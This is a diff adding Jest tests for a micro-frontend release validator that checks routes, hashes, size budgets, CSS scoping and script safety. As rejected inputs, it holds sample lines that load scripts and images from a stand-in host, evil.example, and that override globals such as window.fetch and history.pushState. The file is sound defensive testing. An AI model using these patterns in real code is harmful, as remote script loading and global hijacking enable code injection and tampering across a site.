@@ -1,0 +1,162 @@
+import type { Release } from './registry';
+import { overlapProblems, releaseProblems, type Place, type ReleaseFile } from './releaseProblems';
+import { codeProblems } from './releaseCode';
+import { styleProblems } from './releaseStyles';
+
+const hash = 'sha384-x';
+const release: Release = {
+  name: 'mf-spa',
+  version: '0.1.0-1a2b3c4d',
+  container: 'mf_spa_1a2b3c4d',
+  entry: 'remoteEntry.js',
+  integrity: hash,
+  hashes: { 'remoteEntry.js': hash, 'assets/1.css': hash },
+  kit: '^0.2.0',
+  uses: { react: { useState: '18' } },
+  app: [],
+  pages: { spa: ['assets/1.css'] },
+  routes: [{ path: '/hotels/:hotelid/spa', title: 'Spa', page: 'spa', resource: 'special' }],
+};
+const place: Place = {
+  surface: { react: { useState: ['18'] } },
+  others: [{ name: 'mf-platform', routes: [{ path: '/users', title: 'Users', page: 'users' }] }],
+};
+const files: ReleaseFile[] = [
+  { name: 'remoteEntry.js', bytes: 20_000, text: () => 'var mf_spa_1a2b3c4d = 1;' },
+  { name: 'assets/1.css', bytes: 1000, text: async () => '.mf-spa-row-1a2b3c{color:red}' },
+  { name: 'assets/1.svg', bytes: 1000 },
+];
+const problems = (change: Partial<Release>, own = files, where = place) => releaseProblems({ ...release, ...change }, own, where);
+
+describe('what a release is refused for', () => {
+  it('is nothing when it fits the site', async () => expect(await problems({})).toEqual([]));
+
+  it.each<[string, Promise<string[]>, string]>([
+    [
+      'a kit that is not served',
+      problems({ uses: { react: { useState: '19' } } }),
+      "This version uses useState of react in a form that this site does not have. Build it with this site's kit.",
+    ],
+    [
+      "another remote's address",
+      problems({ routes: [{ path: '/users', title: 'Guests', page: 'spa' }] }),
+      '/users of mf-spa is already taken by /users of mf-platform.',
+    ],
+    [
+      "an address of the shell's own",
+      problems({ routes: [{ path: '/settings', title: 'Spa', page: 'spa' }] }),
+      '/settings of mf-spa is already taken by /settings of the shell.',
+    ],
+    [
+      'a resource that does not exist',
+      problems({ routes: [{ path: '/spa', title: 'Spa', page: 'spa', resource: 'massage' }] }),
+      "/spa needs READ on 'massage', and there is no such resource.",
+    ],
+    [
+      'a file that is missing',
+      problems({}, files.slice(0, 1)),
+      'The file assets/1.css is missing. Build and pack the remote again.',
+    ],
+    [
+      'a script without a hash',
+      problems({}, [...files, { name: 'assets/2.js', bytes: 1 }]),
+      'The file assets/2.js has no hash. Build and pack the remote again.',
+    ],
+    [
+      'too many bytes in all',
+      problems({}, files, { ...place, budget: { total: 20_000, page: 50_000 } }),
+      'Its scripts and style sheets are 21 KB together, and 20 KB is the most.',
+    ],
+    [
+      'a page that is too heavy',
+      problems({}, files, { ...place, budget: { total: 50_000, page: 20_000 } }),
+      "Its page 'spa' takes 21 KB, and 20 KB is the most.",
+    ],
+  ])('%s', async (_, found, sentence) => expect(await found).toEqual([sentence]));
+
+  it('is said of its scripts and style sheets too', async () => {
+    const [script, sheet] = files as [ReleaseFile, ReleaseFile];
+    const bad = [
+      { ...script, text: () => 'window.fetch = () => null' },
+      { ...sheet, text: () => 'body{margin:0}' },
+    ];
+    expect(await problems({}, bad)).toHaveLength(2);
+  });
+
+  it('is nothing where no site is built yet', async () => {
+    expect(await problems({ uses: {} }, files, { ...place, surface: null })).toEqual([]);
+  });
+});
+
+it('does not hold two other remotes against a release that they quarrel without', () => {
+  const [other] = place.others;
+  expect(overlapProblems(release, [other!, { ...other!, name: 'mf-two' }])).toEqual([]);
+});
+
+describe('a style sheet', () => {
+  const styles = (text: string) => styleProblems('assets/1.css', text, 'mf-spa', ['www.w3.org']);
+
+  it.each([
+    '.mf-spa-row-1a2b3c > td:hover, .shared-kit-row-1a2b3c{color:red}',
+    '[data-theme=dark] .mf-spa-row-1a2b3c{color:red}',
+    '@media (width > 1px){.mf-spa-row-1a2b3c{color:red; &:hover{color:blue} p{margin:0}}}',
+    '@keyframes mf-spa-turn-1a2b3c{0%{top:0}to{top:1px}}',
+    '.mf-spa-row-1a2b3c{background:url(data:image/svg+xml;charset=utf8,%3Csvg xmlns=http://www.w3.org/2000/svg%3E)}',
+  ])('may have %s', (text) => expect(styles(text)).toEqual([]));
+
+  it.each([
+    ['body{margin:0}', "line 1 styles 'body' everywhere"],
+    ['.mf-spa-row-1a2b3c{}\n.mf-spa-x-1a2b3c,h1{margin:0}', "line 2 styles 'h1' everywhere"],
+    ['.row{margin:0}', "styles '.row' everywhere"],
+    ['.mf-platform-row-1a2b3c{margin:0}', "styles '.mf-platform-row-1a2b3c' everywhere"],
+    [':root{--accent:red}', "styles ':root' everywhere"],
+    ['@media print{*{display:none}}', "styles '*' everywhere"],
+    ['@keyframes turn{to{top:0}}', "names an animation 'turn'"],
+    ['@font-face{font-family:x}', 'has @font-face'],
+    ["@import 'x.css';", 'imports another style sheet'],
+    ['.mf-spa-row-1a2b3c{background:url(//evil.example/x.png)}', 'names the host evil.example'],
+    ['.mf-spa-row-1a2b3c{', 'is no style sheet'],
+  ])('may not have %s', (text, sentence) => expect(styles(text)).toEqual([expect.stringContaining(sentence)]));
+});
+
+describe('a script', () => {
+  const code = (text: string) => codeProblems('assets/1.js', text, ['www.w3.org']);
+
+  it.each([
+    'var mf_spa_x; (self.webpackChunkmf_spa = self.webpackChunkmf_spa || []).push([1])',
+    'document.title = "Spa"; location.href = "/spa"; window.innkeeper = 1; element.onclick = f',
+    'class Range {} Range.prototype.end = 1; function Selection() {} Selection.from = f',
+    '(function (Array) { Array.prototype.last = 1 })(x)',
+    'Object.defineProperty(exports, "x", {}); Object.assign(Own.prototype, mixin); ({ prototype: { x: 1 } }).prototype.x = 2',
+    'createElementNS("http://www.w3.org/2000/svg", "svg"); "see http://fb.me/x"; "https://"; "//not a host"',
+    'Array.prototype.slice.call(x); const { fetch } = window; const own = window.fetch',
+  ])('may have %s', (text) => expect(code(text)).toEqual([]));
+
+  it.each([
+    ['Array.prototype.last = f', 'changes Array.prototype.last'],
+    ['window.Array.prototype["last"] = f', 'changes Array.prototype.last'],
+    ['Array.prototype[name] = f', 'changes Array.prototype.…'],
+    ['\n\n  window.fetch = g', 'line 3 changes window.fetch'],
+    ['fetch = g', 'changes fetch'],
+    ['globalThis.setTimeout = g', 'changes globalThis.setTimeout'],
+    ['history.pushState = g', 'changes history.pushState'],
+    ['window.history.pushState = g', 'changes history.pushState'],
+    ['console.error = g', 'changes console.error'],
+    ['document.createElement = g', 'changes document.createElement'],
+    ['Promise.all = g', 'changes Promise.all'],
+    ['delete Element.prototype.remove', 'changes Element.prototype.remove'],
+    ['Object.defineProperty(Array.prototype, "last", {})', 'changes Array.prototype.last'],
+    ['Object.defineProperty(window, "fetch", {})', 'changes window.fetch'],
+    ['Object.assign(String.prototype, { x: 1 })', 'changes String.prototype'],
+    ['Reflect.set(Math, "random", g)', 'changes Math.random'],
+    ['load("https://evil.example/x.js")', 'names the host evil.example'],
+    ['load(`wss://evil.example:80/${x}`)', 'names the host evil.example'],
+    ['function (', 'is no script'],
+  ])('may not have %s', (text, sentence) => expect(code(text)).toEqual([expect.stringContaining(sentence)]));
+
+  it('is quoted where it changes something', () => {
+    expect(code('if (1) Array.prototype.last = function () { return 1 }')).toEqual([
+      'assets/1.js, line 1 changes Array.prototype.last, which belongs to every area of the site: Array.prototype.last = function () { return 1 }',
+    ]);
+  });
+});
